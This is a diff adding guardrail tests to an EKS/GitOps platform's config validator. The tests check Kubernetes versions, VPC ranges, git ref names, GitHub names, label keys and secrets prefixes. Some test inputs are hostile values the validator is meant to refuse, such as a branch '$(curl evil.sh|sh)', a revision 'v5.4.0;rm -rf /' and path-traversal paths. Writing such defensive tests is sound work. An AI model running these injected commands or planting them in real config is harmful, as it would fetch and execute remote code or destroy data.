@@ -19,10 +19,15 @@ import { PlatformConfig, PROJECT } from "../stacks/config";
 import { EksClusterConfig } from "../stacks/config/cluster";
 import { ArgocdConfig } from "../stacks/config/engine";
 import { PRODUCTION_INVARIANTS } from "../stacks/config/invariants";
+import { EKS_KUBERNETES_VERSIONS, RESERVED_RANGES } from "../stacks/config/cluster";
+import { SYNC_CONTROLLERS } from "../stacks/config/engine";
+import { GITHUB_OWNER, githubRepositoryName, gitRefProblem, labelKeyProblem, labelValue } from "../stacks/config/rules";
+import { secretsPrefixProblem } from "../stacks/config/secrets";
 import { captureOutput } from "./delivery-capture";
 import { stackFilePath } from "../plan/stackFile";
 import { fromPlanned } from "../policy/check";
 import { INVARIANT_RULES } from "../policy/invariants";
+import { PACK_RULES } from "../policy/pack";
 import { checkResources, PolicyResource } from "../policy/rules";
 import { planStack } from "./harness";
 
@@ -656,6 +661,295 @@ const CASES: BadInput[] = [
         },
         key: `${P}gitopsRepository.url`,
     },
+    // Values as the receiving system checks them (issue 14). Each limit's source is cited at its rule
+    // in stacks/config/ and in "guardrails: each limit as its source states it" below.
+    {
+        name: "Kubernetes version past EKS extended support",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).kubernetesVersion = "1.31";
+        },
+        key: `${P}cluster.kubernetesVersion`,
+    },
+    {
+        name: "Kubernetes version EKS does not offer yet",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).kubernetesVersion = "1.40";
+        },
+        key: `${P}cluster.kubernetesVersion`,
+    },
+    {
+        name: "loopback VPC",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "127.0.0.0/16";
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "multicast VPC",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "224.0.0.0/16";
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "link-local VPC",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "169.254.0.0/16";
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "VPC smaller than /28",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.vpcCidr = "10.20.0.0/29";
+            cluster(c).network.publicSubnetCidrs = ["10.20.0.0/29", "10.20.0.0/29"];
+            cluster(c).network.privateSubnetCidrs = ["10.20.0.0/29", "10.20.0.0/29"];
+        },
+        key: `${P}cluster.network.vpcCidr`,
+    },
+    {
+        name: "subnet smaller than /28",
+        stack: "staging",
+        edit: (c) => {
+            cluster(c).network.publicSubnetCidrs = ["10.20.0.0/29", "10.20.1.0/24"];
+            cluster(c).network.privateSubnetCidrs = ["10.20.128.0/18", "10.20.192.0/18"];
+        },
+        key: `${P}cluster.network.publicSubnetCidrs[0]`,
+    },
+    {
+        name: "GitHub owner with a leading hyphen",
+        stack: "staging",
+        edit: (c) => {
+            c["github:owner"] = "-acme";
+        },
+        key: "github:owner",
+    },
+    {
+        name: "GitHub owner with a double hyphen",
+        stack: "production",
+        edit: (c) => {
+            c["github:owner"] = "acme--platform";
+        },
+        key: "github:owner",
+    },
+    {
+        name: 'repository named ".."',
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].name = "..";
+        },
+        key: `${P}gitopsRepository.name`,
+    },
+    {
+        name: 'repository name ending in ".git"',
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].name = "platform.git";
+        },
+        key: `${P}gitopsRepository.name`,
+    },
+    {
+        name: "branch HEAD",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].branch = "HEAD";
+        },
+        key: `${P}gitopsRepository.branch`,
+    },
+    {
+        name: 'branch with ".."',
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].branch = "main..dev";
+        },
+        key: `${P}gitopsRepository.branch`,
+    },
+    {
+        name: "branch with shell syntax",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}gitopsRepository`].branch = "$(curl evil.sh|sh)";
+        },
+        key: `${P}gitopsRepository.branch`,
+    },
+    {
+        name: "app revision HEAD outside production",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[0].source.revision = "HEAD";
+        },
+        key: `${P}apps[0].source.revision`,
+    },
+    {
+        name: "app revision with a command",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[1].source.revision = "v5.4.0;rm -rf /";
+        },
+        key: `${P}apps[1].source.revision`,
+    },
+    {
+        name: 'app revision with a component starting with "."',
+        stack: "local",
+        edit: (c) => {
+            apps(c)[0].source.revision = "feature/.hidden";
+        },
+        key: `${P}apps[0].source.revision`,
+    },
+    {
+        name: "app path leaving the repository",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[0].source.path = "deploy/../../..";
+        },
+        key: `${P}apps[0].source.path`,
+    },
+    {
+        name: "absolute app path",
+        stack: "local",
+        edit: (c) => {
+            apps(c)[0].source.path = "/etc/kubernetes";
+        },
+        key: `${P}apps[0].source.path`,
+    },
+    {
+        name: "app URL without a repository",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[2].source.url = "https://github.com/";
+        },
+        key: `${P}apps[2].source.url`,
+    },
+    {
+        name: "GitHub app URL naming only an owner",
+        stack: "local",
+        edit: (c) => {
+            apps(c)[0].source.url = "https://github.com/stefanprodan";
+        },
+        key: `${P}apps[0].source.url`,
+    },
+    {
+        name: "app repository that GitHub refuses",
+        stack: "staging",
+        edit: (c) => {
+            apps(c)[0].source.repository = "payments api";
+        },
+        key: `${P}apps[0].source.repository`,
+    },
+    {
+        name: "empty Flux component list",
+        stack: "local",
+        edit: (c) => {
+            Object.assign(c[`${P}engine`], { components: [] });
+        },
+        key: `${P}engine.components`,
+    },
+    {
+        name: "Flux components without kustomize-controller",
+        stack: "local",
+        edit: (c) => {
+            Object.assign(c[`${P}engine`], { components: ["source-controller", "helm-controller"] });
+        },
+        key: `${P}engine.components`,
+    },
+    {
+        name: "Flux helm app without helm-controller",
+        stack: "local",
+        edit: (c) => {
+            Object.assign(c[`${P}engine`], { components: ["source-controller", "kustomize-controller"] });
+            apps(c)[0].source.type = "helm";
+        },
+        key: `${P}engine.components`,
+    },
+    {
+        name: "node label key Kubernetes refuses",
+        stack: "production",
+        edit: (c) => {
+            cluster(c).nodeGroups.system.labels["-workload"] = "system";
+        },
+        key: `${P}cluster.nodeGroups.system.labels.-workload`,
+    },
+    {
+        name: "node label value Kubernetes refuses",
+        stack: "production",
+        edit: (c) => {
+            cluster(c).nodeGroups.system.labels.workload = "system critical";
+        },
+        key: `${P}cluster.nodeGroups.system.labels.workload`,
+    },
+    {
+        name: "monitoring selector label key with two slashes",
+        stack: "production",
+        edit: (c) => {
+            Object.assign(c[`${P}monitoring`] as object, {
+                selectorLabels: { "a/b/release": "kube-prometheus-stack" },
+            });
+        },
+        key: `${P}monitoring.selectorLabels.a/b/release`,
+    },
+    {
+        name: "engine in kube-system",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}engine`].namespace = "kube-system";
+        },
+        key: `${P}engine.namespace`,
+    },
+    {
+        name: "engine in the default namespace",
+        stack: "local",
+        edit: (c) => {
+            c[`${P}engine`].namespace = "default";
+        },
+        key: `${P}engine.namespace`,
+    },
+    {
+        name: "secrets operator in the engine's namespace",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}secrets`].namespace = "argocd";
+        },
+        key: `${P}secrets.namespace`,
+    },
+    // secrets.prefix: the operator reads <prefix>/* (components/secrets/policy.ts).
+    {
+        name: "staging prefix reaching production's secrets",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform/production";
+        },
+        key: `${P}secrets.prefix`,
+    },
+    {
+        name: "prefix that is every stack's parent",
+        stack: "production",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform";
+        },
+        key: `${P}secrets.prefix`,
+    },
+    {
+        name: "production prefix under staging's",
+        stack: "production",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform/staging/production";
+        },
+        key: `${P}secrets.prefix`,
+    },
+    {
+        name: "wildcard prefix",
+        stack: "staging",
+        edit: (c) => {
+            c[`${P}secrets`].prefix = "gitops-platform/*";
+        },
+        key: `${P}secrets.prefix`,
+    },
 ];
 
 describe("guardrails: bad input is refused with the key named and nothing declared", () => {
@@ -726,6 +1020,16 @@ describe("guardrails: every production invariant is refused by npm run check", (
         assert.equal(result, 1);
         assert.match(err, /production invariant signed-commits/);
         assert.ok(PRODUCTION_INVARIANTS.length >= 12);
+    });
+
+    it("names, for each invariant with a policy rule, a rule the pack registers", () => {
+        const registered = new Set(PACK_RULES.map((rule) => rule.name));
+        for (const invariant of PRODUCTION_INVARIANTS.filter((i) => i.policy !== undefined)) {
+            assert.ok(registered.has(invariant.policy!), `${invariant.id} → ${invariant.policy}`);
+        }
+        for (const rule of INVARIANT_RULES) {
+            assert.ok(registered.has(rule.name), rule.name);
+        }
     });
 });
 
@@ -821,7 +1125,159 @@ describe("guardrails: the policy pack flags the same invariants on a preview", (
         }
     });
 
+    it("flags a cascade-deleting Application and an app on a branch, not the root on its protected branch", async () => {
+        const resources = (await production()).map((r) =>
+            r.type === "kubernetes:argoproj.io/v1alpha1:Application" && r.name.includes("payments-api")
+                ? edit(r, {
+                      metadata: {
+                          ...(r.props.metadata as object),
+                          finalizers: ["resources-finalizer.argocd.argoproj.io"],
+                      },
+                      spec: {
+                          ...(r.props.spec as object),
+                          source: { ...(r.props.spec as { source: object }).source, targetRevision: "release/2.14" },
+                      },
+                  })
+                : r,
+        );
+        const violations = checkResources(resources, INVARIANT_RULES);
+        assert.deepEqual(violations.map((v) => v.rule).sort(), [
+            "production-immutable-revisions",
+            "production-no-cascade-delete",
+        ]);
+        assert.ok(violations.every((v) => /payments-api/.test(v.message)));
+    });
+
+    it("flags a production Flux GitRepository that follows a branch", async () => {
+        const flux = { type: "flux", multitenancy: true };
+        const planned = (await planStack("production", { set: { [`${P}engine`]: flux } })).resources.map(fromPlanned);
+        const repositories = planned.filter((r) => r.type === "kubernetes:source.toolkit.fluxcd.io/v1:GitRepository");
+        assert.ok(repositories.length > 0);
+        assert.deepEqual(checkResources(planned, INVARIANT_RULES), []);
+        const onBranch = planned.map((r) =>
+            r === repositories[0] ? edit(r, { spec: { ...(r.props.spec as object), ref: { branch: "main" } } }) : r,
+        );
+        assert.deepEqual(
+            checkResources(onBranch, INVARIANT_RULES).map((v) => v.rule),
+            ["production-immutable-revisions"],
+        );
+    });
+
     it("leaves staging's rulesets to staging's rules", async () => {
         assert.deepEqual(checkResources((await planStack("staging")).resources.map(fromPlanned), INVARIANT_RULES), []);
+    });
+});
+
+describe("guardrails: each limit as its source states it", () => {
+    it("takes the Kubernetes versions on the EKS release calendar, and the one the stacks use", () => {
+        // awsdocs/amazon-eks-user-guide latest/ug/versioning/kubernetes-versions.adoc (calendar: 1.31's
+        // extended support ended 2026-11-26; 1.32–1.34 run to 2027) and endoflife.date/amazon-eks (1.35
+        // released 2026-01-28, extended support to 2028-03-27); 1.36 is the newest version the user guide's
+        // current pages name (docs.aws.amazon.com/de_de/eks/latest/userguide/kubernetes-versions.md).
+        assert.deepEqual(EKS_KUBERNETES_VERSIONS, ["1.32", "1.33", "1.34", "1.35", "1.36"]);
+        for (const stack of ["staging", "production"]) {
+            const file = YAML.parse(fs.readFileSync(stackFilePath(stack), "utf8")) as { config: Config };
+            assert.ok(EKS_KUBERNETES_VERSIONS.includes(cluster(file.config).kubernetesVersion), stack);
+        }
+    });
+
+    it("refuses the IPv4 special-purpose ranges a VPC cannot use, and takes RFC 1918 ones", () => {
+        // IANA IPv4 special-purpose registry (RFC 6890): 0/8 RFC 1122, 127/8 RFC 1122, 169.254/16
+        // RFC 3927, 224/4 RFC 5771, 240/4 RFC 1112.
+        assert.deepEqual(
+            RESERVED_RANGES.map(([range]) => range),
+            ["0.0.0.0/8", "127.0.0.0/8", "169.254.0.0/16", "224.0.0.0/4", "240.0.0.0/4"],
+        );
+    });
+
+    it("checks ref names the way git check-ref-format --branch does", () => {
+        // git Documentation/git-check-ref-format.txt: rules 1 (no component starting with "." or ending
+        // ".lock"), 3 (".."), 4 (control characters, space, ~ ^ :), 5 (? * [), 6 (empty components,
+        // trailing "/"), 7 (trailing "."), 8 ("@{"), 9 ("@"), 10 ("\"); --branch: no leading "-".
+        const refused = ["HEAD", "@", "-main", "a b", "a\tb", "a~1", "a^", "a:b", "a?", "a*", "a[", "a\\b", "a..b"];
+        refused.push(".hidden", "a/.x", "a.lock", "a//b", "a/", "a.", "a@{1}", "$(id)", "a;b", "a|b", "`id`");
+        for (const name of refused) {
+            assert.ok(gitRefProblem(name), name);
+        }
+        for (const name of ["main", "release/5.3", "v1.4.2", "grafana-10.1.4", "feature/a_b-c.d", "a@b"]) {
+            assert.equal(gitRefProblem(name), undefined, name);
+        }
+    });
+
+    it("checks label keys and values the way apimachinery does", () => {
+        // kubernetes/apimachinery pkg/util/validation/validation.go: IsQualifiedName (name ≤ 63,
+        // ([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9], optional DNS-1123 subdomain prefix ≤ 253 and "/"),
+        // IsValidLabelValue (≤ 63, same shape, or empty).
+        for (const key of ["app", "app.kubernetes.io/name", "A_b.c-D", "x".repeat(63), `${"a".repeat(253)}/n`]) {
+            assert.equal(labelKeyProblem(key), undefined, key);
+        }
+        for (const key of [
+            "",
+            "-a",
+            "a-",
+            "a b",
+            "x".repeat(64),
+            "Example.com/a",
+            "a/b/c",
+            "/a",
+            `${"a".repeat(254)}/n`,
+        ]) {
+            assert.ok(labelKeyProblem(key), key);
+        }
+        assert.ok(labelValue.safeParse("").success);
+        assert.ok(labelValue.safeParse("v1.2_3-x").success);
+        for (const value of ["-a", "a b", "x".repeat(64), "a/b"]) {
+            assert.ok(!labelValue.safeParse(value).success, value);
+        }
+    });
+
+    it("takes GitHub names as GitHub does", () => {
+        // dead-claudia/github-limits README (user and organization names: ≤ 39, alphanumerics and single
+        // hyphens, not at either end; repositories: "." and ".." reserved, pull request 5) and github/docs
+        // issue 44518 (repository names: ASCII letters, digits, . - _, ≤ 100, no ".git" suffix).
+        for (const owner of ["acme", "acme-platform", "a1-b2-c3", "x".repeat(39)]) {
+            assert.ok(GITHUB_OWNER.test(owner), owner);
+        }
+        for (const owner of ["", "-acme", "acme-", "ac--me", "ac_me", "ac.me", "x".repeat(40)]) {
+            assert.ok(!GITHUB_OWNER.test(owner), owner);
+        }
+        for (const name of ["payments-api", "a.b_c", "...", "x".repeat(100)]) {
+            assert.ok(githubRepositoryName.safeParse(name).success, name);
+        }
+        for (const name of [".", "..", "a.git", "a b", "ä", "x".repeat(101)]) {
+            assert.ok(!githubRepositoryName.safeParse(name).success, name);
+        }
+    });
+
+    it("keeps a secrets prefix to its own stack", () => {
+        // The operator's policy reads arn:...:secret:<prefix>/* (components/secrets/policy.ts).
+        assert.equal(secretsPrefixProblem("gitops-platform/staging", "staging"), undefined);
+        assert.equal(secretsPrefixProblem("acme/platform/production", "production"), undefined);
+        assert.ok(secretsPrefixProblem("gitops-platform", "staging"));
+        assert.ok(secretsPrefixProblem("gitops-platform/production", "staging"));
+        assert.ok(secretsPrefixProblem("gitops-platform/staging/production", "production"));
+        assert.ok(secretsPrefixProblem("gitops-platform/staging-old", "staging"));
+    });
+
+    it("needs the controllers the FluxInstance sync runs on", () => {
+        // controlplaneio-fluxcd/flux-operator api/v1/fluxinstance_types.go (v0.58.1): Sync creates a
+        // GitRepository (source-controller) and a Kustomization (kustomize-controller); an empty
+        // components list means GetComponents' defaults.
+        assert.deepEqual([...SYNC_CONTROLLERS], ["source-controller", "kustomize-controller"]);
+    });
+});
+
+describe("guardrails: cross-section rules run on whatever parsed", () => {
+    it("names an unknown team and secret keys without a store while the cluster section is broken", async () => {
+        const file = stackFile("local", (c) => {
+            Object.assign(cluster(c), { type: "gke" });
+            apps(c)[0].team = "nobody";
+            Reflect.deleteProperty(c, `${P}secrets`);
+        });
+        const { result, err } = await captureOutput(() => planMain(["--stack", "local", "--config", file]));
+        assert.equal(result, 1);
+        for (const key of [`${P}cluster.type`, `${P}apps[0].team`, `${P}apps[0].secretKeys`]) {
+            assert.ok(err.includes(`  - ${key}: `), `${key} in:\n${err}`);
+        }
     });
 });
